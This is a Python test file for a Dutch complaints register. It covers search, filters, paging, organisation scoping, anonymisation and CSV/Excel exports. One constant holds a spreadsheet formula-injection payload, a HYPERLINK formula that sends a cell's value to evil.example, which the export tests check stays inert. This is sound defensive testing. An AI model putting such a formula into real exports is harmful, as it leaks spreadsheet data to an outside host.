"""The register (issue 15) on SQLite and PostgreSQL: full-text search over a case's subject, its
messages and its complainant, the filters, sorting and pages of 50, a person's organisations only
(in the page and in both exports), CSV and Excel exports that read back with Dutch headers and keep a
hostile subject inert, blanked personal data that is no longer found, and bad filters that give a
Dutch message instead of an error."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from conftest import pg_database
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from triage import config
from triage.store import migrate, repo, users
from triage.store import register as store
from triage.store.models import AuditLog, Case, Message, RawBlob
from triage.store.register import Query
from triage.store.scope import Scope
from triage.web import create_app

ANJA = ("anja", "anja-wachtwoord-12")
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
LINDENDAL = Scope(frozenset({"lindendal"}))
CONFIG = """
[database]
url = "{url}"

[outbox]
pickup_directory = "outbox"
{orgs}"""
ORG = """
[organisations.{id}]
name = "{name}"
reference_prefix = "{prefix}"
addresses = ["klachten@{id}.example"]

[organisations.{id}.mailbox]
type = "maildir"
path = "mail-{id}"
"""
FILLERS = 55  # with the cases below: two pages in lindendal


@dataclass
class Register:
    sessions: sessionmaker[Session]
    app: Flask
    ids: dict[str, int]  # reference -> case id
    config: Path


def _at(day: str, hour: int = 10, minute: int = 0) -> datetime:
    return datetime.combine(date.fromisoformat(day), datetime.min.time(), UTC).replace(hour=hour, minute=minute)


def _case(s: Session, org: str, ref: str, received: datetime, text: str = "", **fields: Any) -> Case:
    year, seq = 2026, int(ref.rsplit("-", 1)[1])
    values: dict[str, Any] = {"organisation": org, "reference": ref, "year": year, "seq": seq, "status": "new",
                              "received_at": received, "created_at": received, "kind": "complaint",
                              "topic": "service", "formality": "informal", "subject": "", "complainant": None,
                              "complainant_name": ""}
    values.update(fields)
    case = Case(**values)
    s.add(case)
    s.flush()
    if text:
        if s.get(RawBlob, "0" * 64) is None:
            s.add(RawBlob(sha256="0" * 64, size=0, data=b""))
        s.add(Message(organisation=org, mailbox=f"{org}:INBOX", uidvalidity=1, uid=ref, sha256="0" * 64, size=1,
                      subject=case.subject, sender=case.complainant, complainant=case.complainant,
                      received_at=received, fetched_at=received, text=text, disposition="filed", case_id=case.id))
    return case


def _fill(s: Session) -> dict[str, int]:
    cases = [
        _case(s, "lindendal", "KL-2026-000001", _at("2026-03-02"), "Er lekt water door het plafond sinds de storm.",
              subject="Lekkage in de badkamer", complainant="jan.devries@example.nl", complainant_name="Jan de Vries",
              status="in_progress", handler="anouk", formality="formal", due_date=date(2026, 4, 13)),
        _case(s, "lindendal", "KL-2026-000002", _at("2026-05-10"), "Ik heb twee klachten over de balie.",
              subject=HOSTILE, complainant="piet@example.nl", complainant_name="Piet Jansen", kind="question",
              topic="staff", status="answered", handler="bert", on_time=True, answered_on=date(2026, 5, 12),
              due_date=date(2026, 5, 17)),
        # 22:30 UTC on 1 July is 00:30 on 2 July in Amsterdam
        _case(s, "lindendal", "KL-2026-000003", _at("2026-07-01", 22, 30), "De buren maken herrie tot in de nacht.",
              subject="Geluidsoverlast", complainant="karin@example.nl", complainant_name="Karin Smit", urgent=True,
              status="resolved", on_time=False, ended_on=date(2026, 7, 30), due_date=date(2026, 7, 16)),
        _case(s, "lindendal", "KL-2026-000005", _at("2026-03-20"), "", subject="", status="answered",
              anonymised_at=_at("2026-11-01"), anonymised_by="purge", on_time=True, answered_on=date(2026, 4, 1)),
        _case(s, "lindendal", "KL-2026-000006", _at("2026-02-01"), "Het zeldzaamwoord flapdrol staat hierin.",
              subject="Te wissen zaak", complainant="wis@example.nl", complainant_name="Willemijn Wis"),
        _case(s, "oosterveld", "WO-2026-000001", _at("2026-03-03"), "Lekkage bij het gemaal, water door het plafond.",
              subject="Lekkage bij Oosterveld", complainant="jan.devries@example.nl", complainant_name="Jan de Vries"),
    ]
    merged = _case(s, "lindendal", "KL-2026-000004", _at("2026-03-05"), "Nogmaals: het plafond lekt nog steeds.",
                   subject="Nogmaals lekkage", complainant="jan.devries@example.nl", complainant_name="Jan de Vries",
                   status="merged", merged_from="in_progress", merged_into=cases[0].id)
    for n in range(FILLERS):
        _case(s, "lindendal", f"KL-2026-{100 + n:06d}", _at("2026-01-05") + timedelta(hours=n),
              "Een gewone vraag over de openingstijden.", subject=f"Vraag {n}", kind="question",
              complainant=f"vrager{n}@example.nl", due_date=date(2026, 1, 12) + timedelta(days=n % 7))
    return {c.reference: c.id for c in [*cases, merged]}


@pytest.fixture(scope="module", params=["sqlite", "postgres"])
def register(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Register]:
    folder = tmp_path_factory.mktemp("register")
    if request.param == "sqlite":
        yield from _site(folder, f"sqlite:///{folder / 'triage.db'}")
        return
    with pg_database(str(request.getfixturevalue("pg_server"))) as url:
        yield from _site(folder, url)


def _site(folder: Path, url: str) -> Iterator[Register]:
    orgs = ORG.format(id="lindendal", name="Gemeente Lindendal", prefix="KL") + ORG.format(
        id="oosterveld", name="Waterschap Oosterveld", prefix="WO")
    (folder / "triage.toml").write_text(CONFIG.format(url=url, orgs=orgs), encoding="utf-8")
    settings = config.load(folder / "triage.toml")
    engine = repo.open_engine(url)
    migrate.ensure_current(engine)
    sessions = repo.session_factory(engine)
    with sessions.begin() as s:
        ids = _fill(s)
        users.add(s, ANJA[0], ANJA[1], "staff", ["lindendal"])
    yield Register(sessions, create_app(settings, sessions, testing=True), ids, folder / "triage.toml")
    engine.dispose()


def _refs(reg: Register, query: Query, scope: Scope = LINDENDAL) -> list[str]:
    with reg.sessions() as s:
        return [r.reference for r in store.page(s, query, scope, per_page=500)]


def _count(reg: Register, query: Query, scope: Scope = LINDENDAL) -> int:
    with reg.sessions() as s:
        return store.count(s, query, scope)


def _client(reg: Register) -> FlaskClient:
    client = reg.app.test_client()
    page = client.get("/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page)
    assert token
    response = client.post("/login", data={"name": ANJA[0], "password": ANJA[1], "csrf_token": token.group(1)})
    assert response.status_code == 302
    return client


def test_search_finds_a_case_by_its_text_subject_complainant_address_and_name(register: Register) -> None:
    assert _refs(register, Query(text="plafond")) == ["KL-2026-000004", "KL-2026-000001"]  # text; newest first
    assert _refs(register, Query(text="badkamer")) == ["KL-2026-000001"]  # subject
    assert _refs(register, Query(text="karin@example.nl")) == ["KL-2026-000003"]  # address
    assert _refs(register, Query(text="Karin Smit")) == ["KL-2026-000003"]  # name
    assert _refs(register, Query(text="Vries badkamer")) == ["KL-2026-000001"]  # a name and a subject word
    assert _refs(register, Query(text="badkamer herrie")) == []  # every word must occur
    assert _refs(register, Query(text='AND OR NOT "(*')) == []  # search syntax is plain text
    assert _refs(register, Query(text="bad\x00kamer \x01 * ^")) == []  # control characters and lone signs
    assert _count(register, Query(text="lekkage")) == 2  # the other organisation's case does not count
    assert _refs(register, Query(text="lekkage"), Scope(frozenset({"oosterveld"}))) == ["WO-2026-000001"]
    assert _count(register, Query(text="lekkage"), Scope()) == 0


def test_postgresql_search_is_stemmed_in_dutch_and_sqlite_matches_prefixes(register: Register) -> None:
    with register.sessions() as s:
        dialect = s.get_bind().dialect.name
    if dialect == "postgresql":
        assert _refs(register, Query(text="klacht")) == ["KL-2026-000002"]  # the text says "klachten"
        assert _refs(register, Query(text="badkamers")) == ["KL-2026-000001"]  # the subject says "badkamer"
    else:
        assert _refs(register, Query(text="klacht")) == []  # no Dutch stemmer in FTS5
        assert _refs(register, Query(text="klacht*")) == ["KL-2026-000002"]
    assert _refs(register, Query(text="geluidsoverlást")) == ["KL-2026-000003"]  # diacritics ignored


def test_filters_select_the_cases_and_merged_cases_count_once(register: Register) -> None:
    everything = _count(register, Query())
    assert everything == 7 + FILLERS - 1  # the other organisation's case left out; the merged one once
    assert _refs(register, Query(status="merged")) == ["KL-2026-000004"]
    assert "KL-2026-000004" not in _refs(register, Query(status="open"))
    assert set(_refs(register, Query(status="ended"))) == {"KL-2026-000002", "KL-2026-000003", "KL-2026-000005"}
    assert _refs(register, Query(timing="late")) == ["KL-2026-000003"]
    assert _refs(register, Query(timing="on_time")) == ["KL-2026-000002", "KL-2026-000005"]
    assert _refs(register, Query(urgent=True)) == ["KL-2026-000003"]
    assert _refs(register, Query(handler="anouk")) == ["KL-2026-000001"]
    assert _count(register, Query(handler=store.NOBODY)) == everything - 2
    assert _refs(register, Query(kind="question", topic="staff")) == ["KL-2026-000002"]
    assert _refs(register, Query(formality="formal")) == ["KL-2026-000001"]
    # a day in Amsterdam: 1 July 22:30 UTC was 2 July there
    assert _refs(register, Query(received_from=date(2026, 7, 2), received_to=date(2026, 7, 2))) == ["KL-2026-000003"]
    assert _refs(register, Query(received_from=date(2026, 7, 1), received_to=date(2026, 7, 1))) == []
    assert _refs(register, Query(received_from=date(2026, 3, 1), received_to=date(2026, 3, 31),
                                 text="lekkage")) == ["KL-2026-000004", "KL-2026-000001"]


def test_sorting_and_pages_of_fifty(register: Register) -> None:
    by_reference = _refs(register, Query(sort="reference", descending=False))
    assert by_reference == sorted(by_reference) and by_reference[0] == "KL-2026-000001"
    by_due = _refs(register, Query(sort="due", descending=False))
    assert by_due[0].startswith("KL-2026-0001") and by_due[-1] in {"KL-2026-000004", "KL-2026-000005",
                                                                   "KL-2026-000006"}  # no due date: last
    assert _refs(register, Query(sort="handler", descending=False))[:2] == ["KL-2026-000001", "KL-2026-000002"]
    assert _refs(register, Query(sort="handler", descending=True))[-2:] == ["KL-2026-000002", "KL-2026-000001"]
    with register.sessions() as s:
        first, second = store.page(s, Query(page=1), LINDENDAL), store.page(s, Query(page=2), LINDENDAL)
    assert len(first) == 50 and len(second) == 7 + FILLERS - 1 - 50
    assert not {r.id for r in first} & {r.id for r in second}
    assert first[0].reference == "KL-2026-000003"  # received last


def test_blanked_personal_data_is_no_longer_found(register: Register) -> None:
    case_id = register.ids["KL-2026-000006"]
    assert _refs(register, Query(text="flapdrol")) == ["KL-2026-000006"]
    assert _refs(register, Query(text="Willemijn")) == ["KL-2026-000006"]
    with register.sessions.begin() as s:  # as the privacy code does: ordinary ORM updates
        case = s.get(Case, case_id)
        assert case is not None
        case.subject, case.complainant, case.complainant_name = "", None, ""
        for msg in s.scalars(select(Message).where(Message.case_id == case_id)):
            msg.subject, msg.text, msg.new_text, msg.sender, msg.complainant = "", "", "", None, None
        store.optimize_index(s)
    for word in ("flapdrol", "Willemijn", "wis@example.nl", "wissen"):
        assert _refs(register, Query(text=word)) == [], word


def test_the_page_shows_the_register_with_dutch_labels_and_links(register: Register) -> None:
    client = _client(register)
    page = client.get("/register?q=lekkage").get_data(as_text=True)
    assert "KL-2026-000001" in page and "WO-2026-000001" not in page
    assert f'href="/case/{register.ids["KL-2026-000001"]}"' in page
    assert "Samengevoegd" in page and "Dienstverlening" in page and "1–2 van 2" in page
    assert "Exporteren als CSV" in page and "/register/export.xlsx?q=lekkage" in page
    page = client.get("/register?page=2").get_data(as_text=True)
    assert f"51–{7 + FILLERS - 1} van {7 + FILLERS - 1}" in page and "Vorige" in page
    anonymised = client.get("/register?status=ended&sort=reference&order=asc").get_data(as_text=True)
    assert "geanonimiseerd" in anonymised and "te laat" in anonymised


def test_bad_filters_give_a_dutch_message_not_an_error(register: Register) -> None:
    client = _client(register)
    response = client.get("/register?from=2026-13-01&kind=klacht&timing=soms&sort=evil&page=x&to=2026-02-30")
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "‘2026-13-01’ bij ‘periode van’ is geen bestaande datum" in page
    assert "‘2026-02-30’ bij ‘periode tot’" in page and "Onbekende waarde voor ‘soort’" in page
    assert "Onbekende waarde voor ‘op tijd’" in page
    late = client.get("/register?from=2026-05-01&to=2026-04-01").get_data(as_text=True)
    assert "‘Periode van’ ligt na ‘periode tot’" in late
    assert client.get("/register?from=2026-13-01", follow_redirects=False).status_code == 200
    export = client.get("/register/export.csv?from=2026-13-01")
    assert export.status_code == 302 and "/register?from=2026-13-01" in export.headers["Location"]


def test_csv_export_reads_back_with_dutch_headers_and_inert_cells(register: Register) -> None:
    response = _client(register).get("/register/export.csv?q=klachten+balie")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert re.fullmatch(r'attachment; filename="register-\d{4}-\d\d-\d\d\.csv"',
                        response.headers["Content-Disposition"])
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:7] == ["Kenmerk", "Organisatie", "Ontvangen", "Soort", "Onderwerp", "Vorm", "Betreft"]
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Kenmerk"] == "KL-2026-000002" and row["Organisatie"] == "Gemeente Lindendal"
    assert row["Betreft"] == "'" + HOSTILE  # a spreadsheet reads it as text
    assert (row["Soort"], row["Onderwerp"], row["Status"], row["Op tijd"]) == (
        "vraag", "medewerker", "afgehandeld", "ja")
    assert row["Ontvangen"] == "2026-05-10 12:00" and row["Afgehandeld op"] == "2026-05-12"
    everything = _client(register).get("/register/export.csv").get_data().decode("utf-8-sig")
    assert len(everything.splitlines()) == 1 + 7 + FILLERS - 1  # every page, not only the first 50
    assert "WO-2026" not in everything and "Oosterveld" not in everything
    with register.sessions() as s:  # who exported is logged, not what was searched
        logged = s.scalars(select(AuditLog).where(AuditLog.action == "register.exported")).all()
    assert {(a.actor, a.detail["format"], a.detail["searched"]) for a in logged} >= {(ANJA[0], "csv", True),
                                                                                   (ANJA[0], "csv", False)}
    assert "klachten" not in str([a.detail for a in logged])


def test_excel_export_reads_back_with_real_dates_and_text_that_is_no_formula(register: Register) -> None:
    response = _client(register).get("/register/export.xlsx?sort=reference&order=asc")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].endswith('.xlsx"')
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("Kenmerk", "Organisatie", "Ontvangen")
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:O{len(rows)}"
    assert len(rows) == 1 + 7 + FILLERS - 1 and not any(str(r[0]).startswith("WO") for r in rows)
    hostile = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "KL-2026-000002")
    assert hostile[6].value == HOSTILE and hostile[6].data_type == "s"
    assert hostile[2].value == datetime(2026, 5, 10, 12, 0) and hostile[11].value == datetime(2026, 5, 12)
    anonymised = next(r for r in rows if r[0] == "KL-2026-000005")
    assert anonymised[6] == anonymised[7] == "geanonimiseerd"


def test_blanked_words_leave_the_sqlite_file_once_the_index_is_optimized(sqlite_url: str) -> None:
    """FTS5 (SQLite 3.40, no secure-delete of its own) keeps a changed document's old words in its
    index segments until they are merged: `optimize_index` merges them, and the database's
    secure_delete zeroes the freed pages."""
    engine = repo.open_engine(sqlite_url)
    migrate.upgrade(engine)
    sessions = repo.session_factory(engine)
    with sessions.begin() as s:
        for n in range(1, 300):
            _case(s, "o", f"KL-2026-{n:06d}", _at("2026-03-02"), "tekst " * 40 + ("geheimwoordxyz" if n == 7 else ""),
                  subject=f"Zaak {n}")
    path = Path(sqlite_url.removeprefix("sqlite:///"))

    def in_file(word: bytes) -> bool:
        with engine.connect() as conn:
            conn.exec_driver_sql("PRAGMA wal_checkpoint(TRUNCATE)")
        return word in path.read_bytes()

    with sessions.begin() as s:
        for msg in s.scalars(select(Message).where(Message.text.contains("geheimwoordxyz"))):
            msg.text = ""
    assert in_file(b"geheimwoordxyz")  # the index still holds it
    with sessions.begin() as s:
        store.optimize_index(s)
    assert not in_file(b"geheimwoordxyz")
    engine.dispose()


def test_the_register_command_writes_an_organisations_register(register: Register, tmp_path: Path) -> None:
    from click.testing import CliRunner

    from triage.cli import main

    out = tmp_path / "register.xlsx"
    result = CliRunner().invoke(main, ["register", "--config", str(register.config), "--out", str(out),
                                       "--organisation", "lindendal", "--search", "lekkage"])
    assert result.exit_code == 0 and result.output == f"wrote 2 cases to {out}\n"
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None and [r[0] for r in sheet.iter_rows(values_only=True)] == [
        "Kenmerk", "KL-2026-000004", "KL-2026-000001"]
    wrong = CliRunner().invoke(main, ["register", "--config", str(register.config), "--out", str(out),
                                      "--organisation", "elders"])
    assert wrong.exit_code == 2 and "'elders' is not configured" in wrong.output
